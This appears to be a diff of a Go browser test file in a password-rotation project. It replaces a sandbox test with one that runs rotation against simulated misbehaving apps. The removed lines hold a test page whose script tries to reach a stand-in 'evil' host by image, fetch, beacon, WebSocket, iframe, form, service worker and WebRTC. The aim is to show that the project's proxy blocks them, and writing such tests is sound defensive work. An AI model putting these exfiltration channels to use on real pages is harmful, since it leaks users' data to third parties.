@@ -2,179 +2,165 @@ package browser
 
 import (
 	"context"
-	"fmt"
-	"maps"
-	"net"
 	"net/http"
 	"net/http/httptest"
 	"slices"
 	"strings"
-	"sync"
 	"testing"
 	"time"
 
-	"github.com/chromedp/chromedp"
+	"github.com/jackc/pgx/v5"
 
+	"postern/conformance/partstest"
+	"postern/connectors/hostile"
+	"postern/core"
+	"postern/core/accounts"
+	"postern/core/coretest"
+	"postern/core/directory"
+	"postern/core/jobs"
 	"postern/core/rotation"
+	"postern/core/seal"
 )
 
-// evil is the host a hostile page tries to reach. It notes by which channel somebody came.
-type evil struct {
-	address string
-	mutex   sync.Mutex
-	came    map[string]bool
-}
-
-func newEvil(t *testing.T) *evil {
-	t.Helper()
-	// Another loopback address, so that it is another host than the app's.
-	listener, err := net.Listen("tcp", "127.0.0.2:0")
-	if err != nil {
-		t.Skipf("skipped: second loopback address: %v", err)
-	}
-	e := &evil{address: listener.Addr().String(), came: map[string]bool{}}
-	server := &httptest.Server{Listener: listener, Config: &http.Server{Handler: e}}
-	server.Start()
-	t.Cleanup(func() {
-		server.CloseClientConnections()
-		server.Close()
-	})
-	packets, err := net.ListenPacket("udp", e.address)
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { _ = packets.Close() })
-	go func() {
-		buffer := make([]byte, 1500)
-		if _, _, err := packets.ReadFrom(buffer); err == nil {
-			e.note("webrtc")
+// TestNoHostileAppLosesAPassword has the real engine and a real browser rotate a password in an app that treats them as
+// badly as it can. Whatever happens, the password the app has is stored, the account is not locked, and people are told;
+// and once the app behaves, the password is rotated.
+func TestNoHostileAppLosesAPassword(t *testing.T) {
+	partstest.Long(t, "browser")
+	clock := coretest.NewClock(time.Now())
+	c := coretest.Open(t, clock.Now)
+	b, err := New(Options{AllowPrivate: true, Timeout: 4 * time.Second, Now: func() time.Time { return clock.Pass(time.Millisecond) }})
+	partstest.Need(t, "browser", err)
+	t.Cleanup(func() { _ = b.Close() })
+	c.Rotations.Connectors = rotation.Connectors{Name: b}
+	var workspace, owner core.ID
+	c.Tx(t, func(ctx context.Context, tx pgx.Tx) error {
+		made, err := c.Directory.CreateWorkspace(ctx, tx, coretest.System(), "acme", "Acme")
+		if err != nil {
+			return err
 		}
-	}()
-	return e
-}
-
-func (e *evil) note(channel string) {
-	e.mutex.Lock()
-	defer e.mutex.Unlock()
-	e.came[channel] = true
-}
-
-func (e *evil) channels() []string {
-	e.mutex.Lock()
-	defer e.mutex.Unlock()
-	return slices.Sorted(maps.Keys(e.came))
-}
-
-func (e *evil) ServeHTTP(w http.ResponseWriter, r *http.Request) {
-	e.note(strings.TrimPrefix(r.URL.Path, "/"))
-	w.Header().Set("Access-Control-Allow-Origin", "*")
-}
-
-// hostile is an app whose pages try every way to another host.
-func hostile(e *evil) http.Handler {
-	script := strings.ReplaceAll(`
-new Image().src='http://EVIL/img';
-document.body.append(Object.assign(document.createElement('iframe'),{src:'http://EVIL/frame'}));
-fetch('http://EVIL/fetch',{mode:'no-cors'}).catch(()=>{});
-navigator.sendBeacon('http://EVIL/beacon','x');
-try{new WebSocket('ws://EVIL/websocket')}catch{}
-try{new EventSource('http://EVIL/eventsource')}catch{}
-window.open('http://EVIL/popup');
-document.body.append(Object.assign(document.createElement('iframe'),{src:'/redirect'}));
-new Worker('/worker.js');
-navigator.serviceWorker.register('/service-worker.js');
-document.head.append(Object.assign(document.createElement('link'),{rel:'prefetch',href:'http://EVIL/prefetch'}));
-document.head.append(Object.assign(document.createElement('link'),{rel:'stylesheet',href:'http://EVIL/stylesheet'}));
-document.head.append(Object.assign(document.createElement('link'),{rel:'preconnect',href:'http://EVIL/'}));
-const form=Object.assign(document.createElement('form'),{action:'http://EVIL/form',method:'post',target:'_blank'});document.body.append(form);form.submit();
-try{const p=new RTCPeerConnection({iceServers:[{urls:'stun:EVIL'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))}catch{}
-`, "EVIL", e.address)
-	mux := http.NewServeMux()
-	page := func(inner string) http.HandlerFunc {
-		return func(w http.ResponseWriter, _ *http.Request) {
-			w.Header().Set("Content-Type", "text/html")
-			fmt.Fprintf(w, "<!doctype html><body>%s<script>%s</script>", inner, script)
-		}
-	}
-	mux.HandleFunc("GET /sign-in", page(`<form method="post" action="/sign-in"><input name="username" autocomplete="username"><input type="password" name="password"><button>Sign in</button></form>`))
-	mux.HandleFunc("POST /sign-in", func(w http.ResponseWriter, r *http.Request) {
-		time.Sleep(1500 * time.Millisecond) // a slow app: the channels have that long
-		page(`<a href="/logout">Log out</a>`)(w, r)
+		user, err := c.Directory.InsertUser(ctx, tx, directory.User{Workspace: made.ID, UserName: "ana", Active: true, Role: directory.RoleOwner})
+		workspace, owner = made.ID, user.ID
+		return err
 	})
-	mux.HandleFunc("GET /redirect", func(w http.ResponseWriter, r *http.Request) {
-		http.Redirect(w, r, "http://"+e.address+"/redirect", http.StatusFound)
-	})
-	javascript := func(text string) http.HandlerFunc {
-		return func(w http.ResponseWriter, _ *http.Request) {
-			w.Header().Set("Content-Type", "text/javascript")
-			fmt.Fprint(w, strings.ReplaceAll(text, "EVIL", e.address))
-		}
-	}
-	mux.HandleFunc("GET /worker.js", javascript(`fetch('http://EVIL/worker',{mode:'no-cors'})`))
-	mux.HandleFunc("GET /service-worker.js", javascript(`self.oninstall=e=>e.waitUntil(fetch('http://EVIL/serviceworker',{mode:'no-cors'}))`))
-	return mux
-}
+	elsewhere := httptest.NewServer(http.NotFoundHandler())
+	t.Cleanup(elsewhere.Close)
 
-// TestNothingEscapes counts the channels by which a hostile page reaches another host: none, where a
-// bare browser lets nearly all of them through.
-func TestNothingEscapes(t *testing.T) {
-	b := connector(t)
-	reached := newEvil(t)
-	server := httptest.NewServer(hostile(reached))
-	defer server.Close()
-	target := rotation.Target{AppName: "hostile", Domains: []string{"127.0.0.1"}, SignInURL: server.URL + "/sign-in"}
-	report := b.Verify(short(t), target, credential("quay", first))
-	expect(t, report, rotation.Accepted, "")
-	if came := reached.channels(); len(came) != 0 {
-		t.Errorf("the other host was reached by %v", came)
-	}
-	if len(report.Hosts) != 1 || report.Hosts[0] != "127.0.0.1" {
-		t.Errorf("hosts: %v", report.Hosts)
-	}
-	if !strings.Contains(string(report.Model), "127.0.0.2") {
-		t.Errorf("the model does not name the refused host: %s", report.Model)
-	}
-
-	// The same page without the proxy, to know that the channels are open where nobody closes them.
-	open := newEvil(t)
-	bare := httptest.NewServer(hostile(open))
-	defer bare.Close()
-	allocator, cancel := chromedp.NewExecAllocator(t.Context(), append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(b.executable))...)
-	defer cancel()
-	ctx, cancel := chromedp.NewContext(allocator)
-	defer cancel()
-	if err := chromedp.Do(ctx); err != nil {
-		t.Fatal(err)
-	}
-	limited, cancel := context.WithTimeout(ctx, 20*time.Second)
-	defer cancel()
-	if err := chromedp.Do(limited, chromedp.Navigate(bare.URL+"/sign-in")); err != nil {
-		t.Fatal(err)
-	}
-	deadline := time.Now().Add(10 * time.Second)
-	for len(open.channels()) < 11 && time.Now().Before(deadline) {
-		time.Sleep(50 * time.Millisecond)
-	}
-	if came := open.channels(); len(came) < 11 {
-		t.Errorf("without the proxy only %v reached the other host", came)
-	} else {
-		t.Logf("without the proxy: %v", came)
-	}
-}
-
-func TestAllowList(t *testing.T) {
-	for _, c := range []struct {
-		domain, host, port string
-		want               bool
+	// What the rotation rests at while the app goes on like this, and the outcome of the connector's that says why.
+	wants := map[hostile.Behaviour]struct {
+		state   rotation.State
+		outcome rotation.Outcome
 	}{
-		{"example.com", "example.com", "443", true}, {"example.com", "EXAMPLE.com.", "443", true}, {"example.com", "www.example.com", "443", true},
-		{"example.com", "badexample.com", "443", false}, {"example.com", "example.com.evil.org", "443", false}, {"*.example.com", "a.example.com", "80", true},
-		{"https://example.com/login", "example.com", "443", true}, {"example.com:8443", "example.com", "8443", true}, {"example.com:8443", "example.com", "443", false},
-		{"127.0.0.1", "127.0.0.1", "8080", true}, {"0.0.1", "127.0.0.1", "80", false}, {"127.0.0.1:80", "127.0.0.1", "", true}, {"[::1]:80", "::1", "80", true}, {"", "", "", false},
-	} {
-		p := &proxy{domains: normalise([]string{c.domain})}
-		if got := p.allows(c.host, c.port); got != c.want {
-			t.Errorf("%q allows %s:%s: %v", c.domain, c.host, c.port, got)
-		}
+		hostile.Obeys:              {rotation.StateDone, rotation.Applied},
+		hostile.LiesSuccess:        {rotation.StateBlocked, rotation.Applied},
+		hostile.LiesRefusal:        {rotation.StateDone, rotation.Refused},
+		hostile.AppliesLate:        {rotation.StateDone, rotation.Applied},
+		hostile.Truncates:          {rotation.StateDone, rotation.Applied},
+		hostile.RefusesByPolicy:    {rotation.StateDone, rotation.Refused},
+		hostile.ReplacesField:      {rotation.StateDone, rotation.Applied},
+		hostile.ExpiresSessions:    {rotation.StateDone, rotation.Applied},
+		hostile.LocksAfter:         {rotation.StateDone, rotation.Applied},
+		hostile.DemandsCaptcha:     {rotation.StateBlocked, rotation.Challenge},
+		hostile.ChangesForm:        {rotation.StateDone, rotation.Applied},
+		hostile.ThrowsDialogs:      {rotation.StateDone, rotation.Applied},
+		hostile.Redirects:          {rotation.StateNotSent, rotation.Unreachable},
+		hostile.HidesInFrame:       {rotation.StateDone, rotation.Applied},
+		hostile.HidesInShadow:      {rotation.StateDone, rotation.Applied},
+		hostile.HidesInClosed:      {rotation.StateDone, rotation.Applied},
+		hostile.LeavesLabelsOpen:   {rotation.StateBlocked, rotation.FormNotFound},
+		hostile.Hangs:              {rotation.StateNotSent, rotation.TimedOut},
+		hostile.HangsAfterApplying: {rotation.StateDone, rotation.TimedOut},
+		hostile.FailsAfterApplying: {rotation.StateDone, rotation.Unknown},
+	}
+	for _, behaves := range hostile.All {
+		want := wants[behaves]
+		t.Run(string("app that "+behaves), func(t *testing.T) {
+			app := &hostile.App{Now: clock.Now, Elsewhere: strings.Replace(elsewhere.URL, "127.0.0.1", "localhost", 1)}
+			app.Add("quay", first)
+			server := httptest.NewServer(app)
+			t.Cleanup(func() {
+				server.CloseClientConnections()
+				server.Close()
+			})
+			var account accounts.Account
+			c.Tx(t, func(ctx context.Context, tx pgx.Tx) error {
+				made, err := c.Accounts.CreateApp(ctx, tx, coretest.System(), workspace, accounts.NewApp{
+					Name: strings.TrimSpace("Pier " + string(behaves)), Domains: []string{"127.0.0.1"}, SignInURL: server.URL + "/sign-in", ChangeURL: server.URL + "/account/password", Connector: Name,
+				})
+				if err != nil {
+					return err
+				}
+				account, err = c.Accounts.CreateAccount(ctx, tx, coretest.System(), workspace, accounts.NewAccount{App: made.ID, Username: "quay", Password: seal.NewSecret(first), Owner: owner})
+				return err
+			})
+			plan := func() (planned rotation.Rotation) {
+				c.Tx(t, func(ctx context.Context, tx pgx.Tx) (err error) {
+					planned, err = c.Rotations.Plan(ctx, tx, coretest.System(), workspace, account.ID, rotation.ReasonDeprovision, 0)
+					return err
+				})
+				return planned
+			}
+			kept := func() bool {
+				versions, err := c.Accounts.Versions(t.Context(), c.DB, workspace, account.ID)
+				coretest.Must(t, err)
+				return slices.ContainsFunc(versions, func(one accounts.Version) bool {
+					password, err := c.Accounts.Password(t.Context(), c.DB, workspace, account.ID, one.Version)
+					coretest.Must(t, err)
+					text := password.Reveal()
+					return text == app.Password("quay") || behaves == hostile.Truncates && len(text) > 12 && text[:12] == app.Password("quay")
+				})
+			}
+			// advance goes on until it rests, for so many waits.
+			advance := func(id core.ID, waits int) rotation.Rotation {
+				for range waits {
+					err := c.Rotations.Advance(t.Context(), workspace, id)
+					if !kept() {
+						t.Fatalf("the app's password %q is stored nowhere", app.Password("quay"))
+					}
+					after, waits := jobs.SnoozeOf(err)
+					if !waits {
+						coretest.Must(t, err)
+						break
+					}
+					clock.Pass(after)
+				}
+				found, err := c.Rotations.Rotation(t.Context(), c.DB, workspace, id)
+				coretest.Must(t, err)
+				return found
+			}
+			app.Behave(behaves)
+			planned := plan()
+			waits := 4 // of those that go on for ever
+			if want.state == rotation.StateDone || want.state == rotation.StateBlocked {
+				waits = 40
+			}
+			rests := advance(planned.ID, waits)
+			steps, err := c.Rotations.Steps(t.Context(), c.DB, workspace, planned.ID)
+			coretest.Must(t, err)
+			told := slices.ContainsFunc(steps, func(one rotation.Step) bool {
+				return strings.Contains(string(one.Evidence), `"outcome": "`+string(want.outcome)+`"`) || strings.Contains(string(one.Evidence), `"outcome":"`+string(want.outcome)+`"`)
+			})
+			if rests.State != want.state || !told || rests.State != rotation.StateDone && rests.Detail == "" {
+				t.Errorf("it rests at %s, want %s and an outcome %s: %s", rests.State, want.state, want.outcome, rests.Detail)
+				for _, one := range steps {
+					t.Logf("  %s %s %.200s", one.State, one.Detail, one.Evidence)
+				}
+			}
+			app.Behave(hostile.Obeys)
+			if behaves == hostile.Truncates {
+				app.Behave(behaves) // one that kept half of it would take no whole one
+			}
+			if rests.Finished == nil {
+				clock.Pass(time.Hour)
+				rests = advance(plan().ID, 8)
+			}
+			if rests.State != rotation.StateDone || app.Password("quay") == first {
+				t.Errorf("once it behaves it rests at %s: %s", rests.State, rests.Detail)
+			}
+			if worst := app.Failures("quay"); worst > 2 {
+				t.Errorf("%d sign-ins failed within 10 minutes", worst)
+			}
+			clock.Pass(time.Hour)
+		})
 	}
 }
